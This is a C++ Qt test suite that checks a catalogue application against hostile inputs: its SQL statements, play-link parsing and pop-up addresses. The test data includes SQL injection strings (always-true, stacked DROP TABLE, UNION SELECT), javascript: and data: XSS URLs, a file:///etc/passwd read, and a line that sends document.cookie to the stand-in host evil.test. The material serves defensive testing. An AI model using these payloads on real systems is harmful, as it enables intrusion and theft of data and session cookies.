// Hostile text through every statement that takes text, hostile play links and pop-up addresses,
// against the real catalogue server. The oracle for "which rows does this text select" is the
// server itself, asked over a separate admin connection with the value as a hex literal that no
// quote or backslash can break out of.
#include "forms/formfixture.h"
#include "support/testdatabase.h"

#include "catalogue/cataloguequery.h"
#include "catalogue/uniconnection.h"

#include <QAction>
#include <QDir>
#include <QFile>
#include <QLineEdit>
#include <QListWidget>
#include <QPushButton>
#include <QSqlDatabase>
#include <QSqlError>
#include <QSqlQuery>
#include <QTest>
#include <QTreeWidget>

#include <memory>

using namespace Qt::StringLiterals;

Q_DECLARE_METATYPE(const Statement *)

namespace {

const QString AdminConnection = u"reliability-admin"_s;

// Quotes, escapes, comment markers, stacked statements, wildcards, control and format characters,
// look-alikes of the quote, characters outside the BMP and very long runs.
QList<std::pair<QString, QString>> hostileValues()
{
    const QString title = u"两只老虎"_s;
    const QList<std::pair<QString, QString>> fragments{
        {u"quote"_s, u"'"_s},
        {u"two quotes"_s, u"''"_s},
        {u"double quote"_s, u"\""_s},
        {u"backtick"_s, u"`"_s},
        {u"backslash"_s, u"\\"_s},
        {u"backslash quote"_s, u"\\'"_s},
        {u"quote backslash"_s, u"'\\"_s},
        {u"two backslashes quote"_s, u"\\\\'"_s},
        {u"always true"_s, u"' OR '1'='1"_s},
        {u"dash comment"_s, u"' OR 1=1 -- "_s},
        {u"hash comment"_s, u"' OR 1=1 #"_s},
        {u"block comment"_s, u"'/* x */OR/**/1=1/*"_s},
        {u"versioned comment"_s, u"'/*!50000 OR 1=1*/-- "_s},
        {u"stacked drop"_s, u"x'; DROP TABLE morrowick_ecms_game; -- "_s},
        {u"union"_s, u"' UNION SELECT classname FROM morrowick_enewsclass -- "_s},
        {u"like widening"_s, u"%' OR title LIKE '%"_s},
        {u"NUL"_s, QString(QChar(u'\0'))},
        {u"NUL then always true"_s, u"a"_s + QChar(u'\0') + u"' OR '1'='1"_s},
        {u"escaped NUL"_s, u"\\0"_s},
        {u"Ctrl-Z"_s, u"\x1a"_s},
        {u"CR LF"_s, u"\r\n"_s},
        {u"placeholder"_s, u"?"_s},
        {u"named placeholder"_s, u":title"_s},
        {u"format string"_s, u"%s%n%1"_s},
        {u"right-to-left override"_s, u"\u202E"_s},
        {u"right-to-left mark"_s, u"\u200F"_s},
        {u"embedded Arabic"_s, u"\u202Bعربي\u202C"_s},
        {u"byte-order mark"_s, u"\uFEFF"_s},
        {u"zero-width joiner family"_s, u"👨‍👩‍👧"_s},
        {u"fullwidth apostrophe"_s, u"＇"_s},
        {u"modifier apostrophe"_s, u"ʼ OR 1=1 -- "_s},
        {u"inverted question mark before quote"_s, u"¿' OR 1=1 -- "_s},
        {u"lone surrogate"_s, QString(QChar(0xD800))},
    };

    QList<std::pair<QString, QString>> values;
    for (const auto &[name, text] : fragments) {
        values.append({name, text});
        values.append({u"title then "_s + name, title + text});
        values.append({name + u" then title"_s, text + title});
    }
    constexpr qsizetype Long = 64 * 1024;
    values.append({u"64 KiB of quotes"_s, QString(Long, u'\'')});
    values.append({u"64 KiB of backslashes"_s, QString(Long, u'\\')});
    values.append({u"64 KiB of Chinese"_s, QString(Long, u'字')});
    values.append({u"64 KiB of percent"_s, QString(Long, u'%')});
    values.append({u"64 KiB of NUL"_s, QString(Long, QChar(u'\0'))});
    QString emoji;
    while (emoji.size() < Long)
        emoji += u"🐼"_s;
    values.append({u"64 KiB of emoji"_s, emoji});
    values.append({u"title then 64 KiB of blanks"_s, title + QString(Long, u' ')});
    values.append({u"64 KiB then always true"_s, QString(Long, u'a') + u"' OR '1'='1"_s});
    return values;
}

// The value as a literal that the server cannot misread: utf8mb4 bytes in hex.
QString literal(const QString &value)
{
    return u"CONVERT(X'%1' USING utf8mb4)"_s.arg(QString::fromLatin1(value.toUtf8().toHex()));
}

// How many rows the statement's own condition selects for the value, by the server's rules.
int oracleCount(const Statement &statement, const QString &value)
{
    QString condition;
    if (&statement == &Statements::ClassIdByName)
        condition = u"morrowick_enewsclass WHERE classname = %1"_s;
    else if (&statement == &Statements::TitlesLike)
        condition = u"morrowick_ecms_game WHERE title LIKE %1"_s;
    else
        condition = u"morrowick_ecms_game WHERE title = %1"_s;
    QSqlQuery query(QSqlDatabase::database(AdminConnection));
    if (!query.exec(u"SELECT COUNT(*) FROM kelvoro."_s + condition.arg(literal(value))) || !query.next())
        qFatal("oracle: %s", qPrintable(query.lastError().text()));
    return query.value(0).toInt();
}

QString serverSocket()
{
    QFile env(QDir(qEnvironmentVariable("ZIRRABEE_TESTDB_DIR")).filePath(u"server.env"_s));
    if (!env.open(QIODevice::ReadOnly | QIODevice::Text))
        return {};
    for (const QByteArray &line : env.readAll().split('\n')) {
        if (line.startsWith("socket="))
            return QString::fromLocal8Bit(line.mid(7));
    }
    return {};
}

QStringList texts(const QListWidget *list)
{
    QStringList result;
    for (int i = 0; i < list->count(); ++i)
        result.append(list->item(i)->text());
    return result;
}

} // namespace

class tst_HostileValues : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void cleanupTestCase();
    void everyTextStatement_data();
    void everyTextStatement();
    void everyTextAction_data();
    void everyTextAction();
    void playLinks_data();
    void playLinks();
    void popUpAddresses_data();
    void popUpAddresses();

private:
    std::unique_ptr<UniConnection> m_connection;
    std::unique_ptr<UniQuery> m_query;
    QStringList m_selecting;
};

void tst_HostileValues::initTestCase()
{
    QSqlDatabase admin = QSqlDatabase::addDatabase(u"QMYSQL"_s, AdminConnection);
    admin.setUserName(u"root"_s);
    admin.setConnectOptions(u"UNIX_SOCKET="_s + serverSocket());
    QVERIFY2(admin.open(), qPrintable(admin.lastError().text()));
    m_connection = std::make_unique<UniConnection>(TestDatabase::settings());
    m_query = std::make_unique<UniQuery>(*m_connection);
}

void tst_HostileValues::cleanupTestCase()
{
    qInfo("selecting rows by the server's comparison rules: %s", qPrintable(m_selecting.join(u", ")));
    m_query.reset();
    m_connection.reset();
    QSqlDatabase::database(AdminConnection).close();
    QSqlDatabase::removeDatabase(AdminConnection);
}

void tst_HostileValues::everyTextStatement_data()
{
    QTest::addColumn<const Statement *>("statement");
    QTest::addColumn<QString>("value");

    const QList<const Statement *> statements{&Statements::ClassIdByName, &Statements::TitlesLike,
                                              &Statements::FlashUrlByTitle, &Statements::DetailByTitle};
    const auto values = hostileValues();
    for (const Statement *statement : statements) {
        for (const auto &[name, value] : values)
            QTest::addRow("%s: %s", statement->name, qPrintable(name)) << statement << value;
    }
}

// One statement reaches the server, it runs, and it selects exactly the rows that the
// statement's condition selects for the value written as a literal.
void tst_HostileValues::everyTextStatement()
{
    QFETCH(const Statement *, statement);
    QFETCH(QString, value);

    const int before = TestDatabase::executedStatements();
    QVERIFY_SQL(CatalogueQuery::open(*m_query, *statement, value));
    QCOMPARE(TestDatabase::executedStatements(), before + 1);
    const int expected = oracleCount(*statement, value);
    QCOMPARE(m_query->RecordCount(), expected);
    if (expected > 0)
        m_selecting.append(QString::fromUtf8(QTest::currentDataTag()));

    QVERIFY_SQL(CatalogueQuery::open(*m_query, Statements::TitlesByClass, u"11"_s));
    QCOMPARE(m_query->RecordCount(), 7);
    m_query->Close();
}

void tst_HostileValues::everyTextAction_data()
{
    QTest::addColumn<QString>("value");
    for (const auto &[name, value] : hostileValues())
        QTest::newRow(qPrintable(name)) << value;
}

// The same values as the window passes them on: a tree category, the search box, a detail page
// and a play from the history. No message; the page and the movie follow the server's answer.
void tst_HostileValues::everyTextAction()
{
    QFETCH(QString, value);

    FormFixture f(TestDatabase::settings());
    f.mainform->show();
    QVERIFY(QTest::qWaitForWindowExposed(f.mainform.get()));

    auto *tree = f.find<QTreeWidget>("sTreeView1");
    auto *node = new QTreeWidgetItem(tree, {value});
    tree->setCurrentItem(node);
    tree->scrollToItem(node);
    QTest::mouseClick(tree->viewport(), Qt::LeftButton, {}, tree->visualItemRect(node).center());
    QVERIFY2(f.errors.isEmpty(), qPrintable(f.errors.join(u'\n')));
    if (oracleCount(Statements::ClassIdByName, value) == 0)
        QCOMPARE(node->childCount(), 0);

    // The box keeps at most its maximum length; the search sends what the box holds.
    auto *edit = f.find<QLineEdit>("sEdit1");
    edit->setText(value);
    f.find<QPushButton>("sButton1")->click();
    QVERIFY2(f.errors.isEmpty(), qPrintable(f.errors.join(u'\n')));
    if (!edit->text().isEmpty())
        QCOMPARE(f.find<QListWidget>("sListBox3")->count(), oracleCount(Statements::TitlesLike, edit->text()));

    auto *history = f.find<QListWidget>("sListBox1");
    history->addItem(value);
    history->setCurrentRow(0);
    const bool found = oracleCount(Statements::DetailByTitle, value) > 0;
    f.mainform->findChild<QAction *>(u"N1"_s)->trigger();
    f.mainform->findChild<QAction *>(u"N18"_s)->trigger();
    QVERIFY2(f.errors.isEmpty(), qPrintable(f.errors.join(u'\n')));
    QCOMPARE(f.showform->windowTitle(), value);
    if (!found) {
        QVERIFY(f.browser1->calls.mid(1).isEmpty());
        QVERIFY(f.movies.created.isEmpty());
        QCOMPARE(texts(history), QStringList{value});
    }
}

void tst_HostileValues::playLinks_data()
{
    QTest::addColumn<QString>("url");
    QTest::addColumn<bool>("cancelled");
    // The title that plays; empty when nothing may play.
    QTest::addColumn<QString>("played");
    QTest::addColumn<int>("statements");

    const QString root = FormFixture::siteRoot();
    QTest::newRow("100,000 digits") << root + u"x/"_s + QString(100'000, u'9') + u"_play.html"_s << true << QString() << 0;
    QTest::newRow("19 digits, beyond 64 bits") << root + u"x/9999999999999999999_play.html"_s << true << QString() << 0;
    QTest::newRow("18 nines: no such item") << root + u"x/999999999999999999_play.html"_s << true << QString() << 1;
    QTest::newRow("zeros in front of an item") << root + u"x/0001234_play.html"_s << true << u"喜羊羊与灰太狼"_s << 1;
    QTest::newRow("Arabic-Indic digits") << root + u"x/١٢٣٤_play.html"_s << true << QString() << 0;
    QTest::newRow("fullwidth digit inside") << root + u"x/12３4_play.html"_s << true << QString() << 1;
    QTest::newRow("Devanagari digit before ASCII") << root + u"x/५67_play.html"_s << true << QString() << 1;
    QTest::newRow("superscript digits") << root + u"x/¹²³⁴_play.html"_s << true << QString() << 0;
    QTest::newRow("percent-encoded digits") << root + u"x/%31%32%33%34_play.html"_s << true << QString() << 1;
    QTest::newRow("percent-encoded underscore") << root + u"x/1234%5Fplay.html"_s << false << QString() << 0;
    QTest::newRow("percent-encoded suffix") << root + u"x/1234_play%2Ehtml"_s << false << QString() << 0;
    QTest::newRow("sign before digits") << root + u"x/-1234_play.html"_s << true << u"喜羊羊与灰太狼"_s << 1;
    QTest::newRow("quote before digits") << root + u"x/'1234_play.html"_s << true << u"喜羊羊与灰太狼"_s << 1;
    QTest::newRow("statement text before digits") << root + u"x/1 OR 1=1;1234_play.html"_s << true << u"喜羊羊与灰太狼"_s << 1;
    QTest::newRow("in the query, page loads") << root + u"list.html?next=1234_play.html&x=1"_s << false << QString() << 0;
    QTest::newRow("in the fragment, page loads") << root + u"list.html#1234_play.html&x"_s << false << QString() << 0;
    // The rule looks at the end of the address only, wherever the suffix stands.
    QTest::newRow("query ends with it") << root + u"list.html?next=/1234_play.html"_s << true << u"喜羊羊与灰太狼"_s << 1;
    QTest::newRow("fragment ends with it") << root + u"list.html#/567_play.html"_s << true << u"小老鼠上灯台"_s << 1;
    QTest::newRow("javascript address ending in it") << u"javascript:alert(1)//1234_play.html"_s << true << u"喜羊羊与灰太狼"_s << 1;
    QTest::newRow("NUL before the digits") << root + u"x/"_s + QChar(u'\0') + u"1234_play.html"_s << true << u"喜羊羊与灰太狼"_s << 1;
    QTest::newRow("right-to-left override") << root + u"x/\u202E1234_play.html"_s << true << u"喜羊羊与灰太狼"_s << 1;
    QTest::newRow("capitals are not a play link") << root + u"x/1234_Play.html"_s << false << QString() << 0;
}

void tst_HostileValues::playLinks()
{
    QFETCH(QString, url);
    QFETCH(bool, cancelled);
    QFETCH(QString, played);
    QFETCH(int, statements);

    FormFixture f(TestDatabase::settings());
    const int before = TestDatabase::executedStatements();
    QCOMPARE(f.browser1->simulateNavigation(url), cancelled);
    QVERIFY2(f.errors.isEmpty(), qPrintable(f.errors.join(u'\n')));
    QCOMPARE(TestDatabase::executedStatements() - before, statements);
    QCOMPARE(f.movies.created.size(), played.isEmpty() ? 0 : 1);
    QCOMPARE(texts(f.find<QListWidget>("sListBox1")), played.isEmpty() ? QStringList() : QStringList{played});
    QCOMPARE(f.browser1->calls, QStringList{u"Navigate http://site.test"_s});
}

void tst_HostileValues::popUpAddresses_data()
{
    QTest::addColumn<QString>("url");

    QTest::newRow("javascript") << u"javascript:alert(document.cookie)"_s;
    QTest::newRow("javascript with quotes") << u"javascript:void(location='http://evil.test/?'+document.cookie)"_s;
    QTest::newRow("data HTML") << u"data:text/html,<script>alert(1)</script>"_s;
    QTest::newRow("data base64") << u"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="_s;
    QTest::newRow("file") << u"file:///etc/passwd"_s;
    QTest::newRow("file on a share") << u"file://server/share/a.html"_s;
    QTest::newRow("unknown scheme") << u"zirrabee-unknown:whatever"_s;
    QTest::newRow("mail") << u"mailto:a@b.test"_s;
    QTest::newRow("about") << u"about:blank"_s;
    QTest::newRow("empty") << QString();
    QTest::newRow("blanks and controls") << u" \t\r\nhttp://site.test/ "_s;
    QTest::newRow("very long") << u"http://site.test/"_s + QString(1 << 20, u'a');
    QTest::newRow("javascript ending in a play link") << u"javascript:x//1234_play.html"_s;
}

// The address goes to the main browser as it came, whatever its scheme, and the hidden receiver
// is told to load nothing; nothing plays before the main browser reports the navigation. What
// the engine then does with each address is its own rule (tst_popupschemes).
void tst_HostileValues::popUpAddresses()
{
    QFETCH(QString, url);

    FormFixture f(TestDatabase::settings());
    QCOMPARE(f.browser1->simulateNewWindow(), f.browser3.data());
    f.browser1->calls.clear();
    QVERIFY(f.browser3->simulateNavigation(url));
    QCOMPARE(f.browser1->calls, QStringList{u"Navigate "_s + url});
    QVERIFY(f.browser3->calls.isEmpty());
    QVERIFY2(f.errors.isEmpty(), qPrintable(f.errors.join(u'\n')));
    QVERIFY(f.movies.created.isEmpty());
}

QTEST_MAIN(tst_HostileValues)
#include "tst_hostilevalues.moc"
